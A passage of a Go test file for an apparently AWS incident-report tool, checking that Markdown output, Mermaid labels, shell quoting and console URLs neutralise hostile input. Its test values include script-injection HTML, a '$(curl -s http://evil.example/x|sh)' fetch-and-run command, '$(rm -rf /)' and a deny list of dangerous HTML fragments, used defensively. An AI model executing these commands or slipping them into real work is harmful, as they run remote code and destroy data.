				t.Errorf("the %s lacks the payload %q: %q", what, p, s)
			}
		}
	}
	refused := false
	for _, h := range r.Hypotheses {
		if h.Change.Failed() && strings.Contains(h.Change.ErrorMessage, "<img src=x") && strings.Contains(h.Change.ErrorMessage, "\n## injected heading") {
			refused = true
		}
	}
	if !refused {
		t.Error("no candidate with the hostile error message")
	}
	var b bytes.Buffer
	if err := Markdown(&b, r, MarkdownOptions{}); err != nil {
		t.Fatal(err)
	}
	doc := b.Bytes()
	var out bytes.Buffer
	if err := gfm.Convert(doc, &out); err != nil {
		t.Fatal(err)
	}
	for _, bad := range []string{"<script", "<img", "<svg", "<del", "<blockquote", "<hr", "href=\"http://evil", "href=\"javascript", "src=\"http://evil", "\x1b", "\u009b", "\u202e"} {
		if strings.Contains(out.String(), bad) {
			t.Errorf("rendered HTML holds %q", bad)
		}
	}
	seen := plain(gfm.Parser().Parse(text.NewReader(doc)), doc)
	for _, p := range []string{"<script>alert('name')</script>", "![logo](http://evil.example/n.png)", "[click](http://evil.example/ua)",
		"`$(curl -s http://evil.example/x|sh)`", "\n| ua | pipe |\n", "\n## injected heading\n- list item\n1. ordered\n> quote\n```\n| a | b |"} {
		if !strings.Contains(seen, p) {
			t.Errorf("the reader does not see %q as text", p)
		}
	}
}

func TestMarkdownChart(t *testing.T) {
	r := fixtureResult(t, "lab-console-stop")
	var b bytes.Buffer
	if err := Markdown(&b, r, MarkdownOptions{ChartPath: "charts/VPN Down (1).svg"}); err != nil {
		t.Fatal(err)
	}
	doc := b.Bytes()
	root := gfm.Parser().Parse(text.NewReader(doc))
	section, found := "", false
	err := ast.Walk(root, func(n ast.Node, entering bool) (ast.WalkStatus, error) {
		if h, ok := n.(*ast.Heading); ok && entering && h.Level == 2 {
			section = plain(h, doc)
		}
		if img, ok := n.(*ast.Image); ok && entering {
			found = true
			if dest := string(img.Destination); dest != "charts/VPN%20Down%20%281%29.svg" {
				t.Errorf("chart destination %q", dest)
			}
			if alt := plain(img, doc); alt != "Metrics around the incident" || section != "Impact window" {
				t.Errorf("chart %q in section %q, want the impact window", alt, section)
			}
		}
		return ast.WalkContinue, nil
	})
	if err != nil || !found {
		t.Errorf("no chart image (%v)", err)
	}
}

// Every shell word the report writes reads back, through bash, as the
// value it quotes.
func TestShQuote(t *testing.T) {
	values := []string{"VPN-Down", "", "it's", `a"b`, "$(rm -rf /)", "`id`", "a b\tc", "line\nbreak", "VPN-Down\x1b[2J",
		"\x1b]8;;http://evil\x07x\x1b]8;;\x07", "\u009b2J", "\u202eevil", "back\\slash", "100%", "'; echo pwned; '", "bad\xffutf8", "ü → ✓"}
	for _, v := range values {
		q := shQuote(v)
		if needsANSIQuote(q) || strings.ContainsAny(q, "\n\r") {
			t.Errorf("shQuote(%q) = %q holds a control character", v, q)
		}
	}
	bash, err := exec.LookPath("bash")
	if err != nil {
		t.Skip("no bash to read the words back")
	}
	for _, v := range values {
		out, err := exec.Command(bash, "-c", "printf '%s' "+shQuote(v)).Output()
		if err != nil {
			t.Fatalf("bash: %v", err)
		}
		if string(out) != v {
			t.Errorf("bash reads shQuote(%q) = %s as %q", v, shQuote(v), out)
		}
	}
}

func TestMmdLabel(t *testing.T) {
	tests := []struct{ in, want string }{
		{"StopInstances i-0abc by alice", "StopInstances i-0abc by alice"},
		{`say "hi"; #1 <b>x</b> & [y] {z} a|b 100% c\d` + "`e`", `say #quot;hi#quot;#59; #35;1 #lt;b#gt;x#lt;/b#gt; #amp; #91;y#93; #123;z#125; a#124;b 100#37;<br>c#92;d#96;e#96;`},
		{"%%{init: {'theme':'dark'}}%%", "#37;#37;#123;init: #123;'theme':'dark'#125;#125;#37;#37;"},
		{"a\nb\x1b[2J\u202ec", "a bc"},
		{strings.Repeat("x", 50), strings.Repeat("x", 44) + "<br>" + strings.Repeat("x", 6)},
	}
	for _, tc := range tests {
		if got := mmdLabel(tc.in); got != tc.want {
			t.Errorf("mmdLabel(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
	if got := []rune(mmdLabel(strings.Repeat("word ", 100))); len(got) > mmdLabelMax+40 || got[len(got)-1] != '…' {
		t.Errorf("long label not shortened: %q", string(got))
	}
}

func TestURLComponent(t *testing.T) {
	for in, want := range map[string]string{
		"VPN-Down":                   "VPN-Down",
		"yul1 VPN 'dc' down #netops": "yul1%20VPN%20%27dc%27%20down%20%23netops",
		"a)(b](c<d>\"e":              "a%29%28b%5D%28c%3Cd%3E%22e",
		"ü":                          "%C3%BC",
	} {
		if got := urlComponent(in); got != want {
			t.Errorf("urlComponent(%q) = %q, want %q", in, got, want)
		}
	}
	if got := consoleBase("eu-central-1"); got != "https://eu-central-1.console.aws.amazon.com/" {
		t.Errorf("consoleBase = %q", got)
	}
	for _, bad := range []string{"", "evil.example/x", "eu-central-1.evil.example#", "us-east-1\x1b"} {
		if got := consoleBase(bad); got != "" {
			t.Errorf("consoleBase(%q) = %q, want none", bad, got)
		}
	}
}

func TestInsightsFields(t *testing.T) {
	got, ok := insightsFields("${version} ${interface-id} ${log-status} ${pkt-srcaddr}")
	if !ok || !slices.Equal(got, []string{"version", "interfaceId", "logStatus", "pktSrcaddr"}) {
		t.Errorf("insightsFields = %q, %v", got, ok)
	}
	if got, ok := insightsFields(""); !ok || len(got) != 14 {
		t.Errorf("default format: %q, %v", got, ok)
	}
	for _, bad := range []string{"${version} ${x\"y}", "${version} | filter", "version srcaddr"} {
		if _, ok := insightsFields(bad); ok {
			t.Errorf("insightsFields(%q) accepted", bad)
		}
	}
}
